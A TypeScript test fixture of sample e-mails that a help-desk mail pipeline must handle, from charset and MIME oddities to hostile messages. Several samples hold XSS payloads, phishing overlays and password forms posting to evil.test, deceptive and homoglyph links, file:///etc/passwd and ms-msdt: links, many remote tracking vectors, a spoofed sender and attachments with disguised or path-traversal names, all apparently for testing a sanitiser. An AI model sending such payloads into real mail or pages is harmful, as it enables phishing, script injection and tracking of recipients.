import { lockedPdf, pdf, scriptedPdf } from "./pdf-samples.ts";

/**
 * E-mails that a help desk gets and that mail programs have stumbled over, by name: what the contact centre's server
 * would have read out of each (`subject`, `text`, `html`), and the message as it came (`raw`), where they differ.
 */
export interface EmailFile {
  readonly name: string;
  readonly contentType: string;
  readonly contentId?: string;
  readonly bytes: () => Uint8Array;
}
export interface EmailSample {
  readonly description: string;
  readonly from?: string;
  readonly to?: readonly string[];
  readonly cc?: readonly string[];
  readonly replyTo?: readonly string[];
  readonly subject: string;
  readonly text?: string;
  readonly html?: () => string;
  readonly files?: readonly EmailFile[];
  /** The message as it came; where it is not given it is written from the rest. */
  readonly raw?: () => Uint8Array;
}

const latin1 = (text: string): Uint8Array => Buffer.from(text, "latin1");
const utf8 = (text: string): Uint8Array => Buffer.from(text, "utf8");
/** A picture of one pixel. */
const png = () =>
  new Uint8Array(
    Buffer.from(
      "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
      "base64",
    ),
  );
const head = (contentType: string, subject: string, more = "") =>
  `From: Ines Novak <ines@customer.test>\r\nTo: care@sandbox.test\r\nSubject: ${subject}\r\nDate: Tue, 24 Nov 2026 11:58:00 +0000\r\nMessage-ID: <sample@customer.test>\r\nMIME-Version: 1.0\r\nContent-Type: ${contentType}\r\n${more}\r\n`;
const message =
  (contentType: string, body: string, subject = "Question", more = "") =>
  () =>
    latin1(head(contentType, subject, more) + body);
const forward = (depth: number): string =>
  depth === 0
    ? "Content-Type: text/plain\r\n\r\nThe innermost message.\r\n"
    : `Content-Type: multipart/mixed; boundary=b${depth}\r\n\r\n--b${depth}\r\nContent-Type: message/rfc822\r\n\r\nSubject: Level ${depth}\r\n${forward(depth - 1)}\r\n--b${depth}--\r\n`;

/** Every way to have a program ask a server when a mail is opened. All go to track.test. */
const trackers = () => `<!doctype html><html><head>
<link rel="stylesheet" href="https://track.test/link.css"><link rel="prefetch" href="https://track.test/prefetch">
<link rel="preconnect" href="https://track.test"><link rel="dns-prefetch" href="//track.test">
<meta http-equiv="refresh" content="0;url=https://track.test/meta"><base href="https://track.test/">
<style>@import url(https://track.test/import.css);@font-face{font-family:t;src:url(https://track.test/font)}
body{background:url(https://track.test/body)}p::before{content:url("https://track.test/before")}
@media print{p{background:url(https://track.test/print)}}li{list-style-image:\\75rl(https://track.test/escaped)}</style></head>
<body background="https://track.test/attribute"><p style="background-image:url('https://track.test/inline');font-family:t">Hello</p>
<img src="https://track.test/img" srcset="https://track.test/set 2x"><img src="//track.test/protocol" width="1" height="1">
<picture><source srcset="https://track.test/source"><img src="relative.png"></picture><img src="https://track.test/lazy" loading="lazy">
<video src="https://track.test/video" poster="https://track.test/poster" autoplay></video><audio src="https://track.test/audio"></audio>
<iframe src="https://track.test/frame"></iframe><object data="https://track.test/object"></object><embed src="https://track.test/embed">
<svg><image href="https://track.test/svg"/><use href="https://track.test/use#a"/></svg><input type="image" src="https://track.test/input">
<table background="https://track.test/table"><tr><td background="https://track.test/cell">cell</td></tr></table>
<script src="https://track.test/script"></script><noscript><img src="https://track.test/noscript"></noscript>
<a href="https://shop.test/" ping="https://track.test/ping">Shop</a></body></html>`;

export const emailSamples = {
  plain: {
    description: "a plain question",
    subject: "Question",
    text: "Hello,\n\nwhen will my order arrive?\n\nInes",
  },
  newsletter: {
    description: "HTML with remote pictures and a cid picture that is shown twice",
    subject: "Spring offers",
    text: "Our spring offers: https://shop.test/spring",
    html: () =>
      '<h1>Spring</h1><p><img src="cid:logo@customer.test" width="120" height="40" alt="Logo"></p><p>Look at our <a href="https://shop.test/spring">offers</a>.</p><p><img src="https://shop.test/banner.png" width="600" height="200"><img src="cid:logo@customer.test"></p>',
    files: [
      { name: "logo.png", contentType: "image/png", contentId: "logo@customer.test", bytes: png },
      { name: "unused.png", contentType: "image/png", contentId: "unused@customer.test", bytes: png },
    ],
  },
  pdfs: {
    description: "PDFs: with a script and a link, of 5,000 pages, with a password, and cut short",
    subject: "Documents",
    text: "All of them",
    files: [
      { name: "scripted.pdf", contentType: "application/pdf", bytes: scriptedPdf },
      { name: "long.pdf", contentType: "application/pdf", bytes: () => pdf(5_000) },
      { name: "locked.pdf", contentType: "application/pdf", bytes: lockedPdf },
      { name: "torn.pdf", contentType: "application/pdf", bytes: () => scriptedPdf().slice(0, 60) },
    ],
  },
  codedHead: {
    description: "a subject in two coded words of two charsets",
    subject: "😀 café",
    text: "Hello",
    raw: message("text/plain; charset=utf-8", "Hello", "=?utf-8?B?8J+YgA==?= =?iso-8859-1?Q?_caf=E9?="),
  },
  noCharset: {
    description: "ISO-2022-JP bytes without a charset: the server read them wrongly",
    subject: "Question",
    text: "\u001b$B$3$s$K$A$O\u001b(B",
    raw: message("text/plain", "\u001b$B$3$s$K$A$O\u001b(B\r\n"),
  },
  wrongCharset: {
    description: "said to be gb2312, with an en dash and quotes of windows-1252",
    subject: "Question",
    text: "Price \ufffd list \ufffdnew\ufffd",
    raw: message("text/plain; charset=gb2312", "Price \x96 list \x93new\x94\r\n"),
  },
  vietnamese: {
    description: "windows-1258",
    subject: "Question",
    text: "Xin chào",
    raw: message("text/plain; charset=windows-1258", "Xin ch\xe0o\r\n"),
  },
  utf7: {
    description: "charset unicode-1-1-utf-7, which browsers do not know",
    subject: "Question",
    text: "Caf+AOk-",
    raw: message('text/plain; charset="unicode-1-1-utf-7"', "Caf+AOk-\r\n"),
  },
  quotedPrintable: {
    description: "a soft line break at the end, and =B9 that is no UTF-8",
    subject: "Question",
    text: "The price is \ufffd 5",
    raw: message(
      "text/plain; charset=utf-8",
      "The price is =B9 5=",
      "Question",
      "Content-Transfer-Encoding: quoted-printable\r\n",
    ),
  },
  noBoundary: {
    description: "multipart without its boundary",
    subject: "Question",
    text: "",
    raw: message("multipart/alternative", "--x\r\nContent-Type: text/plain\r\n\r\nHello\r\n--x--\r\n"),
  },
  forwarded: {
    description: "five forwards inside each other",
    subject: "Fwd: Fwd: Fwd: Fwd: Fwd: Question",
    text: "See below.",
    files: [
      {
        name: "Question.eml",
        contentType: "message/rfc822",
        bytes: () => latin1(`Subject: Question\r\n${forward(5)}`),
      },
    ],
  },
  htmlOnly: {
    description: "HTML without a plain part",
    subject: "Question",
    html: () => "<p>Only <b>HTML</b> here.</p>",
  },
  cannotShow: {
    description: "a plain part that says nothing",
    subject: "Question",
    text: "Your client cannot show this message.",
    html: () => "<p>The real words.</p>",
  },
  differentParts: {
    description: "plain and HTML say different things",
    subject: "Invoice",
    text: "Pay 10 euros.",
    html: () => "<p>Pay 10,000 euros.</p>",
  },
  winmail: {
    description: "nothing but winmail.dat",
    subject: "Question",
    text: "",
    files: [
      {
        name: "winmail.dat",
        contentType: "application/ms-tnef",
        bytes: () => new Uint8Array([0x78, 0x9f, 0x3e, 0x22, 0, 0]),
      },
    ],
  },
  invitation: {
    description: "a calendar invitation",
    subject: "Appointment",
    text: "Tuesday at ten",
    files: [
      {
        name: "invite.ics",
        contentType: "text/calendar; method=REQUEST",
        bytes: () =>
          utf8(
            "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nDTSTART:20261201T100000Z\r\nSUMMARY:Visit\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
          ),
      },
    ],
  },
  wideTable: {
    description: "a table of 3,000 rows, 4,000 px wide",
    subject: "Report",
    html: () =>
      `<table width="4000">${Array.from({ length: 3_000 }, (_, i) => `<tr><td>${i}</td><td>row</td></tr>`).join("")}</table>`,
  },
  huge: {
    description: "5 MB of HTML",
    subject: "Report",
    html: () => `<div>${"<p>All work and no play.</p>".repeat(185_000)}</div>`,
  },
  hiding: {
    description: "a style that hides everything, for the program too",
    subject: "Question",
    html: () => "<style>*{display:none!important}</style><p>Can you see me?</p>",
  },
  overlay: {
    description: "a layer over the whole window",
    subject: "Question",
    html: () =>
      '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff"><a href="https://evil.test/">Sign in again</a></div><p>Hello</p>',
  },
  darkText: {
    description: "black on nothing, for dark themes",
    subject: "Question",
    html: () => '<p style="color:#000">Black words</p><p><font color="#111111">More</font></p>',
  },
  deceptiveLinks: {
    description: "links that show one place and go to another, or run something",
    subject: "Your account",
    html: () =>
      '<p><a href="https://evil.test/login">https://bank.test</a> <a href="javascript:alert(1)">a</a> <a href="file:///etc/passwd">b</a> <a href="ms-msdt:/id">c</a> <a href="data:text/html,x">d</a> <a href="https://b\u0430nk.test/">bank.test</a> <a href="mailto:x@evil.test?bcc=all@evil.test">mail</a> <a href="tel:+15550100100">call</a></p>',
  },
  form: {
    description: "a form",
    subject: "Your account",
    html: () =>
      '<form action="https://evil.test/"><input name="password" type="password" autofocus><button>Send</button></form>',
  },
  scripts: {
    description: "every way to run something",
    subject: "Question",
    html: () =>
      "<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)></svg><details open ontoggle=alert(1)>x</details><math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math><p>Words</p>",
  },
  trackers: {
    description: "every way to ask a server when it is opened: track.test",
    subject: "Thank you",
    html: trackers,
  },
  spoofedSender: {
    description: "a name that is another address",
    from: '"Ann <ann@bank.test>" <x@evil.test>',
    subject: "Your account",
    text: "Please confirm.",
  },
  undisclosed: {
    description: "recipients in an empty group",
    to: ["undisclosed-recipients:;"],
    subject: "News",
    text: "Hello all",
  },
  replyElsewhere: {
    description: "an internationalised sender, and a Reply-To that is somebody else",
    from: "Jürgen <post@b\u00fccher.test>",
    replyTo: ["office@elsewhere.test"],
    subject: "Question",
    text: "Please answer to my office.",
  },
  comma: {
    description: "a comma in the name",
    from: '"Novak, Ines" <ines@customer.test>',
    subject: "Question",
    text: "Hello",
  },
  manyCopies: {
    description: "400 in Cc",
    cc: Array.from({ length: 400 }, (_, i) => `Person ${i} <person${i}@customer.test>`),
    subject: "Question for all",
    text: "Hello all",
  },
  hostileFiles: {
    description: "names that mean to deceive, and contents that are not what they are called",
    subject: "My papers",
    text: "See attached.",
    files: [
      { name: "invoice\u202Egpj.exe", contentType: "image/jpeg", bytes: () => latin1("MZ\x90\0") },
      { name: "../../a/../b.pdf", contentType: "application/pdf", bytes: () => pdf(1) },
      { name: "CON.txt", contentType: "text/plain", bytes: () => utf8("hello") },
      { name: `${"n".repeat(300)}.pdf`, contentType: "application/pdf", bytes: () => pdf(2) },
      { name: "report.pdf", contentType: "application/pdf", bytes: () => latin1("PK\x03\x04zip") },
      { name: "empty.pdf", contentType: "application/pdf", bytes: () => new Uint8Array() },
      { name: "page.html", contentType: "text/html", bytes: () => utf8("<script>alert(1)</script>") },
    ],
  },
  pictures: {
    description:
      "pictures of kinds that not every program shows: HEIC, WEBP, a GIF that moves, SVG with a script",
    subject: "Photos",
    text: "From my telephone.",
    files: [
      {
        name: "IMG_0001.HEIC",
        contentType: "image/heic",
        bytes: () => latin1("\0\0\0\x18ftypheic\0\0\0\0mif1heic"),
      },
      {
        name: "photo.webp",
        contentType: "image/webp",
        bytes: () => latin1("RIFF\x1a\0\0\0WEBPVP8L\x0d\0\0\0\x2f\0\0\0"),
      },
      {
        name: "moves.gif",
        contentType: "image/gif",
        bytes: () =>
          latin1("GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xff\x0bNETSCAPE2.0\x03\x01\0\0\0;"),
      },
      {
        name: "drawing.svg",
        contentType: "image/svg+xml",
        bytes: () => utf8('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
      },
    ],
  },
  largeFile: {
    description: "a file of 20 MB and one byte",
    subject: "Film",
    text: "See attached.",
    files: [{ name: "film.mp4", contentType: "video/mp4", bytes: () => new Uint8Array(20_000_001) }],
  },
  document: {
    description: "a PDF of three pages and a picture",
    subject: "My contract",
    text: "Signed, see attached.",
    files: [
      { name: "contract.pdf", contentType: "application/pdf", bytes: () => pdf(3) },
      { name: "photo.png", contentType: "image/png", bytes: png },
    ],
  },
} as const satisfies Record<string, EmailSample>;
export type EmailSampleName = keyof typeof emailSamples;

export function emailSample(name: EmailSampleName): EmailSample {
  return emailSamples[name];
}

/** The message as it came, or as it would have come. */
export function rawOf(sample: EmailSample, from: string): Uint8Array {
  if (sample.raw !== undefined) return sample.raw();
  const lines = [
    `From: ${sample.from ?? from}`,
    `To: ${(sample.to ?? ["care@sandbox.test"]).join(", ")}`,
    ...(sample.cc === undefined ? [] : [`Cc: ${sample.cc.join(", ")}`]),
    ...(sample.replyTo === undefined ? [] : [`Reply-To: ${sample.replyTo.join(", ")}`]),
    `Subject: ${sample.subject}`,
    "MIME-Version: 1.0",
    `Content-Type: ${sample.html === undefined ? "text/plain" : "text/html"}; charset=utf-8`,
    "",
    sample.html?.() ?? sample.text ?? "",
  ];
  return utf8(lines.join("\r\n"));
}

export { png as onePixel };
